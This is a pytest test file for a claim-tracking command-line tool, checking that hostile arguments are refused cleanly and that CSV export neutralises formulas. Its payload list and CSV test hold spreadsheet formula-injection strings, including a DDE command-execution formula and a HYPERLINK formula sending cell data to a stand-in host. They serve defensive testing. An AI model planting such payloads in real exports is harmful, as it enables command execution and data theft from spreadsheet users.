"""
Tests that the command line refuses hostile input cleanly.

Invalid UTF-8, NUL characters, huge arguments, numbers out of range, a
report name that names no format: each is one line on stderr naming the
option and the value, a documented exit code, and no change to the store.
A Hypothesis fuzz of the argument parser checks the same of any command
line, and the exit codes are checked against docs/cli.md's table.
"""

import contextlib
import csv
import errno
import io
import json
import os
import re
import shutil
import sqlite3
import subprocess
import sys
import tempfile
import types
from pathlib import Path

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

import claimtrack as ct
from claimtrack import _cli
from claimtrack._cli import _adding, _checks, _context
from claimtrack.cli import ExitCode, main


ROOT = Path(__file__).resolve().parent.parent
PAGE = ROOT / "docs" / "cli.md"
AT = "--at=2025-02-05T09:00:00+00:00"
TEXT = "Rubio said El Salvador has offered to accept US deportees."


def documented_codes():
    """
    The exit codes docs/cli.md's table lists, with what each means.
    """
    text = PAGE.read_text(encoding="utf-8")
    table = text[text.index("| code | meaning |") :].split("\n\n")[0]
    return {
        int(m[1]): m[2]
        for m in re.finditer(r"^\| (\d+) \| (.+) \|$", table, re.MULTILINE)
    }


def run(*args):
    """
    Run main(args); return its code, stdout and stderr.
    """
    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        code = main(list(args))
    return code, out.getvalue(), err.getvalue()


def events(path="claims.db"):
    """
    A store's events, as its JSON document writes them.
    """
    with ct.Tracker.open(path) as tracker:
        return json.loads(tracker.to_json())["events"]


SETUP = [
    ["init"],
    ["add-source", "wire", "--published=2025-02-04", f"--text={TEXT}"],
    ["add-actor", "rubio", "Marco Rubio", "--alias=Rubio"],
    ["add-actor", "bukele", "Nayib Bukele", "--alias=Bukele"],
    ["declare", "carried", "--single-valued"],
    [
        "add-claim",
        "El Salvador offered to take deportees",
        "--id=offer",
        "--speaker=Rubio",
        "--said=Monday",
        "--source=wire",
        "--quote=has offered to accept US deportees",
    ],
]
"""A small store: a source with text, two actors, a claim."""


@pytest.fixture(scope="module")
def small_store(tmp_path_factory):
    """
    The small store's file, made once for the module.
    """
    folder = tmp_path_factory.mktemp("small")
    with contextlib.chdir(folder):
        for args in SETUP:
            code, out, err = run(*args, "--by=analyst", AT)
            assert 0 == code, (args, out, err)
    return folder / "claims.db"


@pytest.fixture
def store(small_store, tmp_path, monkeypatch):
    """
    A copy of the small store as ./claims.db, with no variables set.
    """
    shutil.copyfile(small_store, tmp_path / "claims.db")
    monkeypatch.chdir(tmp_path)
    for name in ("CLAIMTRACK_DB", "CLAIMTRACK_USER", "COLUMNS"):
        monkeypatch.delenv(name, raising=False)
    return tmp_path / "claims.db"


def refused(args, code, *words):
    """
    Run *args*; check that it failed with *code*, one line on stderr
    naming *words*, nothing on stdout, and the store unchanged.
    """
    before = events()
    got, out, err = run(*args)

    assert code == got, (args, out, err)
    assert "" == out
    assert err.startswith("claimtrack: error: ")
    assert err.endswith("\n")
    assert 1 == err.count("\n"), err
    for word in words:
        assert word in err, (word, err)
    assert before == events()
    return err


# -- the defects of issue 16 --------------------------------------------------


class TestHostileArguments:
    """
    Each hostile argument of issue 16 is one line and a documented code,
    and changes nothing.
    """

    def test_invalid_utf8_from_the_shell(self, store):
        """
        Bytes that are not UTF-8, as a shell passes them (surrogateescape
        in sys.argv), are refused naming the option and the byte.
        """
        env = {**os.environ, "PYTHONPATH": str(ROOT)}
        env.pop("CLAIMTRACK_DB", None)
        result = subprocess.run(
            [
                sys.executable,
                "-m",
                "claimtrack",
                "add-actor",
                "x",
                "X",
                b"--role=Pr\xe9sident",
            ],
            env=env,
            capture_output=True,
            check=False,
        )

        assert ExitCode.USAGE == result.returncode
        assert b"" == result.stdout
        assert [
            (
                b"claimtrack: error: --role='Pr\\udce9sident': is not "
                b"UTF-8 text: the byte 0xe9 at character 2 is not UTF-8"
            )
        ] == result.stderr.splitlines()

    def test_invalid_utf8_in_sys_argv(self, store, monkeypatch, capsys):
        """
        main() without arguments reads sys.argv, and refuses the same.
        """
        monkeypatch.setattr(
            sys, "argv", ["claimtrack", "add-actor", "x", "Pr\udce9sident"]
        )
        before = events()

        assert ExitCode.USAGE == main()
        out, err = capsys.readouterr()
        assert "" == out
        assert (
            "claimtrack: error: argument 3='Pr\\udce9sident': is not UTF-8 "
            "text: the byte 0xe9 at character 2 is not UTF-8\n"
        ) == err
        assert before == events()

    def test_lone_surrogate(self, store):
        """
        A lone surrogate that stands for no byte is refused too.
        """
        refused(
            ["add-claim", "x\ud800", "--speaker=Rubio"],
            ExitCode.USAGE,
            "argument 2='x\\ud800'",
            "lone surrogate (U+D800)",
        )

    @pytest.mark.parametrize(
        "number", ["1e999999", "-1e999999", "2e308", "9" * 400]
    )
    def test_quantity_too_large(self, store, number):
        """
        --quantity 1e999999 is refused as too large, not an OverflowError.
        """
        refused(
            [
                "add-claim",
                "A flight carried many",
                "--speaker=Rubio",
                "--subject=flight",
                "--predicate=carried",
                f"--quantity={number}",
            ],
            ExitCode.DATA_ERROR,
            "quantity=",
            "is too large",
        )

    @pytest.mark.parametrize(
        ("number", "words"),
        [
            ("1e-999999", "is too small"),
            ("-1e-400", "is too small"),
            ("0." + "0" * 5000 + "1", "is too small"),
            ("1." + "1" * 5000, "has more than 100 digits"),
            ("1" * 101, "has more than 100 digits"),
        ],
    )
    def test_quantity_too_small_or_too_long(self, store, number, words):
        """
        A number too small or with too many digits for a fraction the
        store can write is refused, not a ValueError.
        """
        refused(
            [
                "add-claim",
                "A flight carried a few",
                "--speaker=Rubio",
                "--subject=flight",
                "--predicate=carried",
                f"--quantity={number}",
            ],
            ExitCode.DATA_ERROR,
            "quantity=",
            words,
        )

    @pytest.mark.parametrize(
        ("number", "value"),
        [
            ("1e-300", {"decimal": "1E-300"}),
            ("0", 0),
            ("-0", 0),
            ("9" * 100, int("9" * 100)),
        ],
    )
    def test_quantities_at_the_bounds_taken(self, store, number, value):
        """
        Numbers at the bounds, and zero, are taken.
        """
        code, out, _ = run(
            "add-claim",
            f"A flight carried {number}",
            "--speaker=Rubio",
            "--subject=flight",
            "--predicate=carried",
            f"--quantity={number}",
            "--json",
        )

        assert 0 == code
        assert value == json.loads(out)["proposition"]["object"]["quantity"]

    def test_largest_quantity_taken(self, store):
        """
        A number as large as a float can be is still a number.
        """
        code, out, _ = run(
            "add-claim",
            "A flight carried very many",
            "--speaker=Rubio",
            "--subject=flight",
            "--predicate=carried",
            "--quantity=1.7e308",
            "--json",
        )

        assert 0 == code
        assert (
            17 * 10**307
            == json.loads(out)["proposition"]["object"]["quantity"]
        )

    @pytest.mark.parametrize(
        "seconds", ["-1", "nan", "inf", "-inf", "x", "", "1e9", "86401"]
    )
    def test_timeout_refused(self, store, seconds):
        """
        --timeout takes a number of seconds from 0 to a day, no more.
        """
        refused(
            ["claims", f"--timeout={seconds}"],
            ExitCode.USAGE,
            "argument --timeout",
            repr(seconds),
        )

    @pytest.mark.parametrize("seconds", ["0", "0.5", "5", "86400"])
    def test_timeout_taken(self, store, seconds):
        """
        Zero (do not wait) to a day are taken.
        """
        assert 0 == run("claims", f"--timeout={seconds}")[0]

    @pytest.mark.parametrize(
        "name", ["r.bogus", "report", "r.html.bak", "r.", ".md"]
    )
    def test_report_name_names_no_format(self, store, name):
        """
        report -o with an extension that names no format is refused with
        the formats, and writes nothing.
        """
        err = refused(
            ["report", "-o", name],
            ExitCode.USAGE,
            f"--output={name!r}",
            ".html, .htm, .md, .markdown",
            "--format html",
        )

        assert [] == list(store.parent.glob(name))
        assert "\n" not in err[:-1]

    @pytest.mark.parametrize(
        ("name", "chosen"),
        [("r.HTM", "html"), ("r.markdown", "markdown"), ("r.md", "markdown")],
    )
    def test_report_extension_chooses(self, store, name, chosen):
        """
        Each extension that names a format chooses it.
        """
        code, out, _ = run("report", "-o", name)

        assert (0, f"wrote the {chosen} report {name}\n") == (code, out)

    def test_report_format_given(self, store):
        """
        --format writes any name, and stdout is HTML by default.
        """
        assert 0 == run("report", "-o", "r.bogus", "--format=markdown")[0]
        assert (store.parent / "r.bogus").read_text().startswith("# ")
        code, out, _ = run("report", "-o", "-")
        assert 0 == code
        assert out.startswith("<!DOCTYPE html>")

    @pytest.mark.parametrize("size", [_checks.MAX_ARGUMENT + 1, 5_000_000])
    def test_huge_argument(self, store, size):
        """
        An argument longer than any a system passes is refused, shown cut
        to about 80 characters with its length.
        """
        err = refused(
            ["add-actor", "huge", "N" * size],
            ExitCode.USAGE,
            f"argument 3='{'N' * 10}",
            f"…' ({size} characters)",
            f"longer than {_checks.MAX_ARGUMENT} characters",
        )

        assert len(err) < 300

    def test_longest_argument_taken(self, store):
        """
        An argument of the largest size is taken: a source's text.
        """
        text = "N" * _checks.MAX_ARGUMENT

        assert 0 == run("add-source", "long", f"--text={text}")[0]
        with ct.Tracker.open("claims.db") as tracker:
            assert text == tracker.source("long").text

    @pytest.mark.parametrize(
        ("args", "where"),
        [
            (["add-actor", "x", "a\x00b"], "argument 3='a\\x00b'"),
            (["add-actor", "x", "X", "--role", "a\x00b"], "--role='a\\x00b'"),
            (["add-actor", "x", "X", "--role=a\x00b"], "--role='a\\x00b'"),
            (["--db", "claims.db\x00", "claims"], "--db='claims.db\\x00'"),
            (["export", "-o", "a\x00.csv"], "-o='a\\x00.csv'"),
            (["claims\x00"], "argument 1='claims\\x00'"),
            (["show", "--", "\x00"], "argument 3='\\x00'"),
        ],
    )
    def test_nul_character(self, store, args, where):
        """
        A NUL character, which no real command line can hold, is refused
        naming the option (or the argument's place) and the value.
        """
        refused(args, ExitCode.USAGE, where, "NUL character")

    def test_every_refusal_before_anything_is_written(self, store):
        """
        A refused argument stops the command before it reads the store: a
        missing store is not reported, and no file is made.
        """
        refused(
            ["--db", "nothing.db", "init", "--by", "a\x00"],
            ExitCode.USAGE,
            "--by='a\\x00'",
        )

        assert not (store.parent / "nothing.db").exists()


class TestOtherRefusals:
    """
    Other arguments that raised, or were silently taken.
    """

    @pytest.mark.parametrize("argv", ["claims", b"claims", 3, None.__class__])
    def test_not_a_list_of_strings(self, store, argv):
        """
        main() given one string (or anything but a list of strings) says
        so, and exits 2.
        """
        code, out, err = run_raw(argv)

        assert (ExitCode.USAGE, "") == (code, out)
        assert "must be a list of strings" in err

    def test_an_argument_not_a_string(self, store):
        """
        An argument that is not a string is named by its place.
        """
        code, _, err = run_raw(["show", 3])

        assert ExitCode.USAGE == code
        assert (
            "claimtrack: error: argument 2=3: must be a string, not int\n"
            == err
        )

    @pytest.mark.parametrize("output", ["", ".", "/"])
    def test_output_naming_a_folder(self, store, output):
        """
        An -o that names no file is refused (not a ValueError).
        """
        refused(
            ["export", "-o", output],
            ExitCode.CANNOT_CREATE,
            f"output={output!r}",
            "names a folder",
        )

    def test_empty_db(self, store):
        """
        --db '' is refused rather than read as the default store.
        """
        refused(["--db", "", "claims"], ExitCode.USAGE, "--db=''")

    @pytest.mark.parametrize(
        ("args", "code"),
        [(["claims"], ExitCode.NO_INPUT), (["init"], ExitCode.CANNOT_CREATE)],
    )
    def test_store_name_too_long(self, store, args, code):
        """
        A store name the system cannot use is named, cut, with the
        system's reason.
        """
        refused(
            ["--db", "K" * 5000, *args],
            code,
            "db='KKKK",
            "(5000 characters)",
            "file name too long",
        )

    def test_sqlite_error_the_store_does_not_name(self, store, monkeypatch):
        """
        An SQLite error that reaches the command line unnamed is still one
        line and exit code 74.
        """

        def broken(self):
            raise sqlite3.DatabaseError("database disk image is malformed")

        monkeypatch.setattr(_context._Context, "store", broken)

        refused(
            ["claims"],
            ExitCode.IO_ERROR,
            "the store cannot be read: database disk image is malformed",
        )

    def test_init_os_error_the_store_does_not_name(self, store, monkeypatch):
        """
        A system error creating the store, which the store does not name,
        names --db and exits 73.
        """

        def full(path, **options):
            raise OSError(errno.ENOSPC, "No space left on device")

        monkeypatch.setattr(
            _adding, "Tracker", types.SimpleNamespace(open=full)
        )

        refused(
            ["--db", "new.db", "init"],
            ExitCode.CANNOT_CREATE,
            "db='new.db': no space left on device",
        )

    @pytest.mark.parametrize(
        "args", [["show", "offer"], ["report", "-o", "-"]]
    )
    def test_output_encoding_too_narrow(self, store, args):
        """
        An output whose encoding cannot hold the text (ASCII) is one line
        and exit code 74, naming the character, not a traceback.
        """
        out = io.TextIOWrapper(io.BytesIO(), encoding="ascii")
        err = io.StringIO()
        with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
            code = main(args)

        assert ExitCode.IO_ERROR == code
        assert 1 == err.getvalue().count("\n")
        assert "claimtrack: error: output=" in err.getvalue()
        assert "encoding, ascii; use a UTF-8 locale" in err.getvalue()

    def test_raw_goes_with_csv(self, store):
        """
        --raw is for CSV only.
        """
        for kind in ("json", "claimreview"):
            refused(
                ["export", f"--format={kind}", "--raw"],
                ExitCode.USAGE,
                "--raw goes with --format csv",
            )

    def test_usage_errors_are_one_line(self, store):
        """
        argparse's own errors are one line too, pointing to --help.
        """
        err = refused(["add-claim"], ExitCode.USAGE)

        assert err == (
            "claimtrack: error: the following arguments are required: "
            "text, --speaker (see 'claimtrack add-claim --help')\n"
        )

    def test_long_values_in_argparse_errors_are_cut(self, store):
        """
        A long value that argparse quotes in its error is cut.
        """
        err = refused(
            ["add-actor", "x", "--kind", "K" * 500],
            ExitCode.USAGE,
            "invalid choice: 'KKKK",
            "(500 characters)",
        )

        assert len(err) < 300

    def test_terminal_controls_are_escaped(self, store):
        """
        An escape sequence in a value is shown, not run by the terminal.
        """
        err = refused(
            ["show", "\x1b[2J\u202egnp.exe"],
            ExitCode.NOT_FOUND,
            "id='\\x1b[2J\\u202egnp.exe'",
        )

        assert "\x1b" not in err
        assert "\u202e" not in err


class TestReportPath:
    """
    reports.write refuses a path that names no file or no format cleanly.
    """

    @pytest.mark.parametrize(
        ("path", "error", "words"),
        [
            ("a\x00b.html", ct.InvalidValueError, "NUL character"),
            ("", ct.InvalidValueError, "names a folder"),
            (".", ct.InvalidValueError, "names a folder"),
            ("/", ct.InvalidValueError, "names a folder"),
            (3, ct.InvalidTypeError, "must be a str or a path"),
            (None, ct.InvalidTypeError, "must be a str or a path"),
            (b"r.html", ct.InvalidTypeError, "must be a str or a path"),
            (
                "r.bogus",
                ct.InvalidValueError,
                "(.html, .htm, .md, .markdown)",
            ),
        ],
    )
    def test_refused(self, tmp_path, monkeypatch, path, error, words):
        """
        Each is the named error, naming path and its value; nothing is
        written.
        """
        monkeypatch.chdir(tmp_path)

        with pytest.raises(error) as e:
            ct.reports.write(ct.Tracker(), path)

        assert ("path", path) == (e.value.field, e.value.value)
        assert words in str(e.value)
        assert [] == list(tmp_path.iterdir())

    def test_a_folder_with_a_format(self, tmp_path, monkeypatch):
        """
        A folder's name is refused even when the format is given.
        """
        monkeypatch.chdir(tmp_path)

        with pytest.raises(ct.InvalidValueError):
            ct.reports.write(ct.Tracker(), ".", format="html")

    def test_a_path_object(self, tmp_path):
        """
        A pathlib.Path names the file as a str does.
        """
        ct.reports.write(ct.Tracker(), tmp_path / "r.md")

        assert (tmp_path / "r.md").read_text().startswith("# ")


class TestCsvExport:
    """
    export --format csv neutralises formulas, and --raw does not.
    """

    def test_formulas_quoted_unless_raw(self, store):
        """
        A claim whose text is a formula is written with a quote before
        it, and as it is with --raw.
        """
        payload = "=cmd|' /C calc'!A0"
        assert 0 == run("add-claim", payload, "--speaker=Rubio", "--id=x")[0]

        code, out, _ = run("export", "--format=csv")
        raw_code, raw, _ = run("export", "--format=csv", "--raw")

        assert (0, 0) == (code, raw_code)
        assert (
            "'" + payload == list(csv.DictReader(io.StringIO(out)))[1]["text"]
        )
        assert payload == list(csv.DictReader(io.StringIO(raw)))[1]["text"]


def run_raw(argv):
    """
    Run main(argv) with *argv* as it is, not copied into a list.
    """
    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        code = main(argv)
    return code, out.getvalue(), err.getvalue()


# -- showing values ----------------------------------------------------------


class TestShown:
    """
    Errors show values cut to about 80 characters, with their length.
    """

    def test_short_value_whole(self):
        """
        A short value is its repr.
        """
        assert "'a\\x00b'" == _checks.shown("a\x00b")
        assert "3" == _checks.shown(3)

    def test_long_text_cut(self):
        """
        A long text ends in an ellipsis inside its quotes, then its length.
        """
        assert "'" + "x" * 77 + "…' (1000 characters)" == _checks.shown(
            "x" * 1000
        )

    def test_long_escapes_cut_whole(self):
        """
        Escapes are never cut in half.
        """
        text = _checks.shown("\x00" * 100)

        assert text.startswith("'\\x00")
        assert text.endswith("\\x00…' (100 characters)")

    def test_long_other_value_cut(self):
        """
        A long value that is not text is cut, with an ellipsis.
        """
        text = _checks.shown(list(range(100)))

        assert _checks.SHOWN == len(text)
        assert text.endswith("…")

    @given(st.text(st.characters(codec=None, categories=None), max_size=300))
    @example(  # found by the fuzz: the whole is quoted with ", a part with '
        "0000000000\x1f\x1f\U00018cd6\U00018cd6\U0001b2fc\U0002ebe1"
        "\U0003134b\U0003134b'"
    )
    @example("x" * 200 + "'" + '"')
    @example('it\'s "so"' + "y" * 200)  # both marks: ' quotes, and is escaped
    def test_shown_is_short_and_printable(self, value):
        """
        Whatever the text, what is shown is short and starts as its repr.
        """
        text = _checks.shown(value)

        assert len(text) <= _checks.SHOWN + len(f" ({len(value)} characters)")
        assert text.isprintable()
        head = text.split("…")[0]
        assert repr(value).startswith(head)

    @given(
        st.text(st.characters(codec=None, categories=None), max_size=2000),
        st.lists(st.text(max_size=200), max_size=3),
    )
    def test_one_line(self, message, argv):
        """
        A message becomes one printable line of bounded length.
        """
        line = _checks.one_line(message, argv)

        assert "\n" not in line
        assert line.isprintable()
        assert len(line) <= _checks.MAX_MESSAGE + 30

    def test_one_line_cuts_a_long_message(self):
        """
        A message longer than the most a line holds is cut, with its size.
        """
        line = _checks.one_line("word " * 1000)

        assert line.endswith("… (4999 characters)")

    def test_describe_a_group(self):
        """
        Several fields' errors are each described with their value cut.
        """
        group = ct.InvalidFieldsError(
            "Actor",
            [
                ct.InvalidValueError("id", "i" * 200, "too long"),
                ct.InvalidValueError("name", "", "empty"),
            ],
        )

        assert (
            f"Actor: id='{'i' * 77}…' (200 characters): too long; "
            "name='': empty"
        ) == _checks.describe(group)


# -- the fuzz -----------------------------------------------------------------


def _options():
    """
    Each command's options, from the parser itself.
    """
    parser = _cli._parser()
    commands = next(
        a for a in parser._actions if isinstance(a.choices, dict)
    ).choices
    return {
        name: sorted(
            option
            for action in sub._actions
            for option in action.option_strings
            if option not in ("-h", "--help")
        )
        for name, sub in commands.items()
    }


OPTIONS = _options()
REAL = [
    "offer",
    "rubio",
    "Rubio",
    "wire",
    "carried",
    "2025-02-03",
    "Monday",
    "has offered to accept US deportees",
    "43",
    "10%",
    "claims.db",
    "-",
    "r.md",
    "out.csv",
]
"""Values the small store knows, so that some commands go deep."""
PAYLOADS = [
    "",
    " ",
    "\x00",
    "a\x00b",
    "\udcff",
    "\ud800",
    "\x1b[31m",
    "\u202e",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "-1",
    "-",
    "--",
    "--help",
    "-h",
    "--version",
    "nan",
    "inf",
    "1e999999",
    "-1e999999",
    "1e-999999",
    "0." + "0" * 5000 + "1",
    "9" * 5000,
    "0x10",
    "%",
    "1e999999%",
    ".",
    "..",
    "/",
    "nodir/x.md",
    "2025-02-31",
    "0000-00-00",
    "99999-01-01",
    "\U0001f600",
    "é" * 300,
]
"""Hostile values a person would try first."""


def _confined(text):
    """
    *text*, with no way to name a file outside the example's folder.

    The curated payloads are kept as they are: none writes outside.
    """
    return text if text in PAYLOADS else text.replace("/", "_")


hostile = st.one_of(
    st.sampled_from(PAYLOADS),
    st.sampled_from(REAL),
    st.text(st.characters(codec=None, categories=None), max_size=40),
    st.sampled_from([_checks.MAX_ARGUMENT + 1, 5_000_000, 2000]).map(
        lambda n: "x" * n
    ),
).map(_confined)


@st.composite
def command_lines(draw):
    """
    A command line: a command and options given hostile values, or any
    list of hostile strings.
    """
    if draw(st.integers(0, 4)) == 0:
        return draw(st.lists(hostile, max_size=6))
    name = draw(st.sampled_from(sorted(OPTIONS)))
    words = [name]
    for _ in range(draw(st.integers(0, 6))):
        shape = draw(st.sampled_from(["value", "option", "option=value"]))
        if shape == "value" or not OPTIONS[name]:
            words.append(draw(hostile))
            continue
        option = draw(st.sampled_from(OPTIONS[name]))
        if shape == "option":
            words += [option, draw(hostile)]
        else:
            words.append(f"{option}={draw(hostile)}")
    if name == "watch":  # it follows the store until stopped: stop it
        words += ["--for", "0"]
    return words


class TestFuzz:
    """
    Any command line, against a small store: a documented exit code, one
    line on stderr if it failed, and the store unchanged unless it
    succeeded.
    """

    @given(command_lines())
    def test_any_command_line(self, small_store, argv):
        """
        Whatever the arguments, main() returns a documented code, writes
        one error line when it fails, and changes the store only when it
        succeeds; it never raises.
        """
        documented = documented_codes()
        with (
            pytest.MonkeyPatch.context() as monkeypatch,
            tempfile.TemporaryDirectory() as folder,
            contextlib.chdir(folder),
        ):
            monkeypatch.setattr(sys, "stdin", io.StringIO(""))
            for name in ("CLAIMTRACK_DB", "CLAIMTRACK_USER", "COLUMNS"):
                monkeypatch.delenv(name, raising=False)
            shutil.copyfile(small_store, "claims.db")
            before = events()
            code, _, err = run(*argv)
            after = events()

        assert code in documented, (argv, code, err)
        lines = err.splitlines()
        notes = [n for n in lines if n.startswith("claimtrack: reading ")]
        if code == 0:
            assert notes == lines, (argv, err)
            return
        assert lines[:-1] == notes, (argv, err)
        assert lines[-1].startswith("claimtrack: error: "), (argv, err)
        assert len(lines[-1]) < _checks.MAX_MESSAGE + 60, argv
        assert before == after, argv


# -- the exit codes ----------------------------------------------------------


class TestExitCodes:
    """
    docs/cli.md's table of exit codes is the code's.
    """

    def test_table_is_the_exit_codes(self):
        """
        The table lists every ExitCode, and the 1 of a bug, and no other.
        """
        assert {c.value for c in ExitCode} | {1} == set(documented_codes())

    def test_help_lists_the_same(self):
        """
        --help's list of exit codes is the table's, but for the bug's 1.
        """
        listed = {
            int(m)
            for m in re.findall(r"^  (\d+) ", _cli._EPILOG, re.MULTILINE)
        }

        assert set(documented_codes()) - {1} == listed

    @pytest.mark.parametrize("code", [c for c in ExitCode if c != ExitCode.OK])
    def test_each_code_is_used(self, code):
        """
        The command line returns each code it documents somewhere.
        """
        source = "\n".join(
            p.read_text(encoding="utf-8")
            for p in (ROOT / "claimtrack" / "_cli").glob("*.py")
        )

        assert f"ExitCode.{code.name}" in source

    def test_a_bug_exits_with_1(self, tmp_path):
        """
        A bug's traceback ends the process with 1, as the table says.
        """
        result = subprocess.run(
            [
                sys.executable,
                "-c",
                (
                    "import sys, claimtrack._cli as c; c._parser = None;"
                    "sys.exit(c.main(['claims']))"
                ),
            ],
            cwd=tmp_path,
            env={**os.environ, "PYTHONPATH": str(ROOT)},
            capture_output=True,
            text=True,
            check=False,
        )

        assert 1 == result.returncode
        assert "Traceback" in result.stderr
        assert "bug" in documented_codes()[1]
